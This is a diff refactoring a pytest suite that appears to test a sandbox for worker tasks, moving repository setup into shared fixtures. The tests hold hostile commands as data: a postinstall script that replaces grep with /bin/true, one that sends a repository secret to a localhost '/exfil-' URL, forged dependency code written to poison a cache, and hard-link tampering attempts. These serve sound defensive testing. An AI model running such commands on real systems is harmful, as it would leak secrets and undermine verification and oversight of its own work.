@@ -15,7 +15,7 @@ from pathlib import Path
 
 import pytest
 from support.env_specs import node_spec
-from support.repos import git
+from support.repos import commit_files, git
 from support.tasks import mock_task, run_spec, task_events, write_spec
 from support.waiting import poll
 
@@ -38,22 +38,12 @@ def _package_with_scripts(repo: Path, **scripts: str) -> str:
     return json.dumps(package, indent=2) + "\n"
 
 
-def _commit(repo: Path, files: dict[str, str], message: str) -> None:
-    for rel, text in files.items():
-        (repo / rel).write_text(text)
-    git(repo, "add", "--", *files)
-    git(repo, "commit", "-qm", message)
-
-
 # -- verification sees what the worker shipped ------------------------------------------------
 
 
 def test_a_worker_that_unignores_node_modules_ships_its_dependency_into_verification(
-    cli, workdir, env, server, env_image
+    cli, workdir, env, node_repo, env_image
 ):
-    from support.projects import node_project
-
-    repo = node_project(workdir / "node", server)
     forged = (
         "module.exports = (v, w, f) => String(v).padStart(w, f === undefined ? ' ' : f);\n"
         "module.exports.VERSION = 'FORGED';\n"
@@ -63,7 +53,7 @@ def test_a_worker_that_unignores_node_modules_ships_its_dependency_into_verifica
         " && rm -rf node_modules/wb-left-pad && mkdir node_modules/wb-left-pad"
         f' && printf %s "{forged}" > node_modules/wb-left-pad/index.js'
     )
-    result = run_spec(cli, workdir, node_spec(repo, env_image, {"script": script}), env)
+    result = run_spec(cli, workdir, node_spec(node_repo, env_image, {"script": script}), env)
     # The worker's own copy of a dependency never reaches verification: the change is refused.
     assert any(c["path"] == "node_modules/wb-left-pad/index.js" for c in result["changed_files"])
     assert result["status"] == "failed"
@@ -73,17 +63,14 @@ def test_a_worker_that_unignores_node_modules_ships_its_dependency_into_verifica
 
 
 def test_a_worker_postinstall_cannot_rewrite_the_tools_verification_runs(
-    cli, workdir, env, server, env_image
+    cli, workdir, env, node_repo, env_image
 ):
-    from support.projects import node_project
-
-    repo = node_project(workdir / "node", server)
-    _commit(repo, {"answer.txt": "wrong\n"}, "the answer")
+    commit_files(node_repo, {"answer.txt": "wrong\n"}, "the answer")
     evil = 'g=$(command -v grep) && rm -f "$g" && cp /bin/true "$g"'
-    package = _package_with_scripts(repo, postinstall=evil)
+    package = _package_with_scripts(node_repo, postinstall=evil)
     # The task may reach the registry, so its snapshot's setup can too: the install runs.
     spec = node_spec(
-        repo,
+        node_repo,
         env_image,
         {"write": {"package.json": package}},
         network={"mode": "allowlist", "domains": ["localhost"]},
@@ -103,19 +90,18 @@ def test_a_worker_postinstall_cannot_rewrite_the_tools_verification_runs(
 
 
 def test_a_worker_without_network_cannot_reach_the_setup_network_through_its_manifest(
-    cli, workdir, env, server, env_image
+    cli, workdir, env, server, node_repo, env_image
 ):
-    from support.projects import node_project
-
-    repo = node_project(workdir / "node", server)
-    _commit(repo, {"secret.txt": "s3cr3t-of-the-repository\n"}, "a secret in the repository")
+    commit_files(
+        node_repo, {"secret.txt": "s3cr3t-of-the-repository\n"}, "a secret in the repository"
+    )
     leak = (
         "python3 -c \"import urllib.request as u; u.urlopen('http://localhost:"
         f"{server.port}/exfil-' + open('secret.txt').read().strip(), timeout=20)\" || true"
     )
-    package = _package_with_scripts(repo, postinstall=leak)
+    package = _package_with_scripts(node_repo, postinstall=leak)
     spec = node_spec(
-        repo, env_image, {"write": {"package.json": package}}, network={"mode": "none"}
+        node_repo, env_image, {"write": {"package.json": package}}, network={"mode": "none"}
     )
     result = run_spec(cli, workdir, spec, env)
     # The snapshot's setup has no more network than the task: none (npm then cannot fetch).
@@ -134,12 +120,9 @@ def test_a_worker_without_network_cannot_reach_the_setup_network_through_its_man
     "only the host's root can write the sealed files, and it could rewrite entry.json too",
 )
 def test_a_cache_entry_changed_in_place_keeping_size_and_mode_is_not_trusted(
-    cli, workdir, env, server, env_image
+    cli, workdir, env, node_repo, env_image
 ):
-    from support.projects import node_project
-
-    repo = node_project(workdir / "node", server)
-    first = run_spec(cli, workdir, node_spec(repo, env_image), env)
+    first = run_spec(cli, workdir, node_spec(node_repo, env_image), env)
     assert first["status"] == "succeeded", first["error"]
     entry = next((workdir / "home" / "environments").glob("[0-9a-f]*"))
     planted = entry / "outputs" / "node_modules" / "wb-left-pad" / "index.js"
@@ -152,35 +135,32 @@ def test_a_cache_entry_changed_in_place_keeping_size_and_mode_is_not_trusted(
     planted.chmod(before.st_mode & 0o7777)
     os.utime(planted, ns=(before.st_atime_ns, before.st_mtime_ns))
 
-    second = run_spec(cli, workdir, node_spec(repo, env_image), env)
+    second = run_spec(cli, workdir, node_spec(node_repo, env_image), env)
     tail = second["verification"]["commands"][0]["stdout_tail"]
     assert "POISN" not in tail, tail  # today: "ok: wb-left-pad POISN"
     assert second["verification"]["environment"]["setup"] == "ran"
 
 
 def test_a_setup_on_an_untrusted_branch_cannot_poison_the_cache_of_main(
-    cli, workdir, env, server, env_image
+    cli, workdir, env, node_repo, env_image
 ):
-    from support.projects import node_project
-
-    repo = node_project(workdir / "node", server)
-    package = _package_with_scripts(repo, postinstall="sh scripts/post.sh")
-    (repo / "scripts").mkdir()
-    _commit(repo, {"package.json": package, "scripts/post.sh": "true\n"}, "a postinstall")
-    git(repo, "checkout", "-qb", "pr")
+    package = _package_with_scripts(node_repo, postinstall="sh scripts/post.sh")
+    (node_repo / "scripts").mkdir()
+    commit_files(node_repo, {"package.json": package, "scripts/post.sh": "true\n"}, "a postinstall")
+    git(node_repo, "checkout", "-qb", "pr")
     forged = (
         "printf '%s\\n' \"module.exports = (v, w, f) => String(v).padStart(w, f);\" "
         "\"module.exports.VERSION = 'FROM-PR';\" > node_modules/wb-left-pad/index.js\n"
     )
-    _commit(repo, {"scripts/post.sh": forged}, "the contributor's change")
-    git(repo, "checkout", "-q", "main")
+    commit_files(node_repo, {"scripts/post.sh": forged}, "the contributor's change")
+    git(node_repo, "checkout", "-q", "main")
 
-    on_pr = node_spec(repo, env_image)
+    on_pr = node_spec(node_repo, env_image)
     on_pr["workspace"]["base_ref"] = "pr"
     first = run_spec(cli, workdir, on_pr, env)
     assert first["status"] == "succeeded", first["error"]
     assert "FROM-PR" in first["verification"]["commands"][0]["stdout_tail"], first
-    on_main = run_spec(cli, workdir, node_spec(repo, env_image), env)
+    on_main = run_spec(cli, workdir, node_spec(node_repo, env_image), env)
     tail = on_main["verification"]["commands"][0]["stdout_tail"]
     assert "ok: wb-left-pad 1.0.0" in tail, tail  # today: "ok: wb-left-pad FROM-PR"
     assert on_main["verification"]["environment"]["setup"] == "ran"
@@ -237,20 +217,18 @@ def test_two_state_roots_sharing_an_engine_keep_each_others_cache(
 
 
 def test_dependency_files_with_odd_names_do_not_leak_or_break_the_task_result(
-    cli, workdir, env, server, env_image
+    cli, workdir, env, server, node_repo, env_image
 ):
     import pydantic_core
-    from support.projects import node_project
 
     from bridge import WorkerBridge
 
-    repo = node_project(workdir / "node", server)
     token = "sk-" + "A1b2C3d4" * 3
     script = (
         f"mkdir {token} && echo '{{}}' > {token}/package.json"
         " && d=$(printf 'v\\377') && mkdir \"$d\" && echo '{}' > \"$d/package.json\""
     )
-    result = run_spec(cli, workdir, node_spec(repo, env_image, {"script": script}), env)
+    result = run_spec(cli, workdir, node_spec(node_repo, env_image, {"script": script}), env)
     setup = result["verification"]["environment"]["setup"]
     assert setup in ("ran_for_snapshot", "failed_for_snapshot"), result["verification"]
     assert token not in json.dumps(result["changed_files"])  # redacted there
@@ -270,20 +248,17 @@ def test_dependency_files_with_odd_names_do_not_leak_or_break_the_task_result(
 
 
 def test_prune_leaves_the_image_a_running_verification_uses(
-    cli, workdir, env, server, env_image, home
+    cli, workdir, env, node_repo, env_image, home
 ):
     """Found in review (prune took a task-private setup image for an orphan, no shared entry
     naming it, and removed it while the task verified in it: the next command failed with
     "Image ... is not present; build it first."); fixed in c214afb. A task whose base does not
     contain the commit the shared entry was made from sets up task-privately."""
-    from support.projects import node_project
-
     from bridge.sandbox import DockerSandbox, home_id
 
-    repo = node_project(workdir / "node", server)
-    _commit(repo, {"NOTES.md": "later\n"}, "a later commit on main")
-    assert run_spec(cli, workdir, node_spec(repo, env_image), env)["status"] == "succeeded"
-    spec = node_spec(repo, env_image)
+    commit_files(node_repo, {"NOTES.md": "later\n"}, "a later commit on main")
+    assert run_spec(cli, workdir, node_spec(node_repo, env_image), env)["status"] == "succeeded"
+    spec = node_spec(node_repo, env_image)
     spec["workspace"]["base_ref"] = "HEAD~1"  # does not contain the entry's commit
     spec["verification"]["commands"] = ["sleep 8", "npm test"]
     path = write_spec(workdir / "spec-prune.json", spec)
@@ -340,16 +315,13 @@ def test_a_setup_failing_after_two_committed_commands_leaves_no_image(
 
 
 def test_a_worker_cannot_change_a_cached_file_through_its_hard_link(
-    cli, workdir, env, server, env_image
+    cli, workdir, env, node_repo, env_image
 ):
     """chmod, utime, truncate, a hard link of its own, writing, renaming over: each refused or
     harmless to the cache, whose files keep their content, and whose entry stays whole."""
-    from support.projects import node_project
-
     from bridge.environments.cache import check_entry, load_entry
     from bridge.sandbox import DockerSandbox
 
-    repo = node_project(workdir / "node", server)
     f = "node_modules/wb-left-pad/index.js"
     attempts = {
         "chmod": f"chmod 666 {f}",
@@ -365,9 +337,9 @@ def test_a_worker_cannot_change_a_cached_file_through_its_hard_link(
         for name, command in attempts.items()
     )
     script += f"mv -f {f} moved.js; echo 'changed' > {f}; true"
-    result = run_spec(cli, workdir, node_spec(repo, env_image, {"script": script}), env)
+    result = run_spec(cli, workdir, node_spec(node_repo, env_image, {"script": script}), env)
     assert result["status"] == "succeeded", result["error"]
-    worked = git(repo, "show", f"{result['branch']}:worked.txt", check=False)
+    worked = git(node_repo, "show", f"{result['branch']}:worked.txt", check=False)
     assert worked == "", worked
     entry = load_entry(next((workdir / "home" / "environments").glob("[0-9a-f]*")))
     assert entry is not None
@@ -381,7 +353,9 @@ def test_a_worker_cannot_change_a_cached_file_through_its_hard_link(
     assert b'module.exports.VERSION = "1.0.0"' in cached
     assert (
         hashlib.sha256(cached).hexdigest()
-        == hashlib.sha256(git(repo, "show", f"{result['branch']}:moved.js").encode()).hexdigest()
+        == hashlib.sha256(
+            git(node_repo, "show", f"{result['branch']}:moved.js").encode()
+        ).hexdigest()
     )
 
 
@@ -411,9 +385,7 @@ def test_setup_cannot_write_its_read_only_mounts_nor_use_a_model_route(
         "open('.held.json', 'w').write(json.dumps(out))\n"
         "EOF"
     )
-    (repo / ".gitignore").write_text(".held.json\n")
-    git(repo, "add", "-A")
-    git(repo, "commit", "-qm", "ignore the probe")
+    commit_files(repo, {".gitignore": ".held.json\n"}, "ignore the probe")
     spec = mock_task(repo, {"write": {"a.txt": "a\n"}, "routes": ["test"]}, verify=["true"])
     spec["environment"] = {"image": env_image, "setup": [probe], "setup_network": ["localhost"]}
     result = run_spec(cli, workdir, spec, env)
@@ -446,9 +418,7 @@ def test_odd_files_a_setup_leaves_are_cached_safely_or_not_at_all(
         " && mkdir locked && echo secret > locked/f && chmod 000 locked/f locked"
         " && chmod 000 /workspace"
     )
-    (repo / ".gitignore").write_text("build/\n")
-    git(repo, "add", "-A")
-    git(repo, "commit", "-qm", "ignore build")
+    commit_files(repo, {".gitignore": "build/\n"}, "ignore build")
     script = (
         "ls build | LC_ALL=C tr -cd '[:print:]\\n' > seen.txt;"
         " test -L build/abs-link && echo abs-is-link >> seen.txt"
